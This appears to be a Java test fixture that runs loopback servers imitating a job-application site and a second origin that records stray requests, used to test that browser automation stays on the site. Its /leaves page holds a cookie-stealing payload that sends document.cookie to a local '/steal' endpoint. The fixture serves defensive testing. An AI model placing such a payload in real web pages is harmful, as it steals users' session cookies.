package io.applyflow.support;

import io.vertx.core.Vertx;
import io.vertx.core.http.HttpServer;
import io.vertx.core.http.HttpServerRequest;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

/**
 * Two loopback servers standing in for the internet in navigation tests: an "ATS" with a few classic-form pages, and
 * an "elsewhere" origin (another port, so another origin) that counts every request it receives, so a test can
 * assert the browser never reached it. Pages of the ATS:
 * <ul>
 *   <li>{@code /acme/jobs/{id}}: a classic form ({@code #application_form}, first name, {@code #submit_app}) that
 *       POSTs to itself and is answered 303 to {@code /acme/jobs/{id}/confirmation?application_id=7{id}};</li>
 *   <li>{@code /acme/jobs/1/confirmation}: says "There was an error processing your application";
 *       {@code /acme/jobs/2/confirmation}: "Thank you for applying"; others: a page that says nothing;</li>
 *   <li>{@code /embed}: a company-style page embedding {@code iframe#grnhse_iframe} from elsewhere;</li>
 *   <li>{@code /leaves}: a form whose submit button sends the page elsewhere.</li>
 * </ul>
 */
public final class FakeAts implements AutoCloseable {
  private final Vertx vertx = Vertx.vertx();
  private final HttpServer ats;
  private final HttpServer elsewhere;
  private final List<String> elsewhereHits = new CopyOnWriteArrayList<>();
  private final List<String> posts = new CopyOnWriteArrayList<>();

  public FakeAts() {
    elsewhere = vertx.createHttpServer().requestHandler(r -> {
      elsewhereHits.add(r.method() + " " + r.uri());
      r.response().putHeader("content-type", "text/html").end("<h1>Thank you for applying</h1>");
    }).listen(0, "127.0.0.1").await();
    ats = vertx.createHttpServer().requestHandler(this::ats).listen(0, "127.0.0.1").await();
  }

  public String atsOrigin() {
    return "http://127.0.0.1:" + ats.actualPort();
  }

  public String elsewhereOrigin() {
    return "http://127.0.0.1:" + elsewhere.actualPort();
  }

  /** Requests the "elsewhere" server received. */
  public List<String> elsewhereHits() {
    return List.copyOf(elsewhereHits);
  }

  /** Form POSTs the ATS received (their paths). */
  public List<String> posts() {
    return List.copyOf(posts);
  }

  private void ats(HttpServerRequest r) {
    String path = r.path();
    if (r.method().name().equals("POST") && path.matches("/acme/jobs/\\d+")) {
      posts.add(path);
      r.response().setStatusCode(303).putHeader("location", path + "/confirmation?application_id=7"
          + path.substring(path.lastIndexOf('/') + 1)).end();
      return;
    }
    if (path.matches("/acme/jobs/\\d+")) {
      page(r, form(path, "<input type=\"submit\" id=\"submit_app\" value=\"Submit Application\">"));
    } else if (path.equals("/acme/jobs/1/confirmation")) {
      page(r, "<h1>There was an error processing your application. Please try again.</h1>");
    } else if (path.equals("/acme/jobs/2/confirmation")) {
      page(r, "<h1 id=\"confirmation-title\">Thank you for applying</h1><p>Your application has been received.</p>");
    } else if (path.matches("/acme/jobs/\\d+/confirmation")) {
      page(r, "<h1>Acme careers</h1><p>See our other openings.</p>");
    } else if (path.equals("/embed")) {
      page(r, "<h1>Careers at Acme</h1><div id=\"grnhse_app\"><iframe id=\"grnhse_iframe\" src=\"" + elsewhereOrigin()
          + "/embed/job_app?for=acme&token=1\"></iframe></div>");
    } else if (path.equals("/leaves")) {
      page(r, form("/leaves", "<button type=\"submit\" id=\"submit_app\" onclick=\"event.preventDefault(); "
          + "location.href='" + elsewhereOrigin() + "/steal?c=' + document.cookie\">Submit Application</button>"));
    } else {
      r.response().setStatusCode(404).end("not found");
    }
  }

  private static String form(String action, String submit) {
    return "<h1>Engineer at Acme</h1><form id=\"application_form\" method=\"post\" action=\"" + action + "\">"
        + "<label for=\"first_name\">First Name</label>"
        + "<input id=\"first_name\" name=\"job_application[first_name]\" type=\"text\">" + submit + "</form>";
  }

  private static void page(HttpServerRequest r, String main) {
    r.response().putHeader("content-type", "text/html; charset=utf-8")
        .end("<!DOCTYPE html><html lang=\"en\"><head><title>Acme</title></head><body><main>" + main
            + "</main></body></html>");
  }

  @Override
  public void close() {
    vertx.close().await();
  }
}
